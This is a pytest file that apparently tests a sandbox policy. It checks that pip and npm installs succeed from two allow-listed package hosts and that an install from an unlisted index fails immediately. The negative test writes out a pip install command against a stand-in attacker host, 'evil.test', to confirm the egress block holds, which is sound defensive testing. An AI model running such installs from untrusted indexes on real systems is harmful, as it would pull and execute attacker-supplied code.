"""pip and npm in a pod, from an index that the policy lists: through a tunnel, and through TLS that is opened."""

from __future__ import annotations

import shutil
from collections.abc import Iterator

import pytest

from .world import World

POLICY = """
version: 1
name: packages
capabilities: {read_files: always, run_bash: always}
commands: {allow: everything}
trifecta: session
network:
  allow:
    - {host: other.test, trusted: true}
    - {host: api.test, methods: [GET, HEAD], paths: ["/simple/**", "/files/**", "/npm/**"], trusted: true}
"""
PIP = "python3 -m venv /tmp/v && /tmp/v/bin/pip install -q --no-input --disable-pip-version-check"


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    made = World()
    try:
        yield made
    finally:
        made.close()


def run(world: World, script: str) -> str:
    policy = world.policy(POLICY)
    done = world.cli("exec", "--policy", policy, "--workdir", str(world.workspace), "--", "sh", "-c", script)
    return f"{done.returncode}\n{done.stdout}{done.stderr}"


@pytest.mark.parametrize("host", ["other.test", "api.test"])
def test_pip_installs(world: World, host: str) -> None:
    said = run(
        world, f"{PIP} --index-url https://{host}/simple tiny && /tmp/v/bin/python -c 'import tiny; print(tiny.said)'"
    )
    assert "tiny here" in said


@pytest.mark.parametrize("host", ["other.test", "api.test"])
def test_npm_installs(world: World, host: str) -> None:
    if shutil.which("npm") is None:
        pytest.skip("npm is not installed")
    install = f"npm install --no-audit --no-fund --registry https://{host}/npm/ tiny"
    line = f"cd /tmp && {install} && cat node_modules/tiny/index.js"
    assert "module.exports" in run(world, line)


def test_an_index_that_is_not_listed_fails_at_once(world: World) -> None:
    said = run(world, f"{PIP} --retries 0 --index-url https://evil.test/simple tiny")
    assert said.startswith("1\n")
    assert not world.seen(address="93.184.216.66")
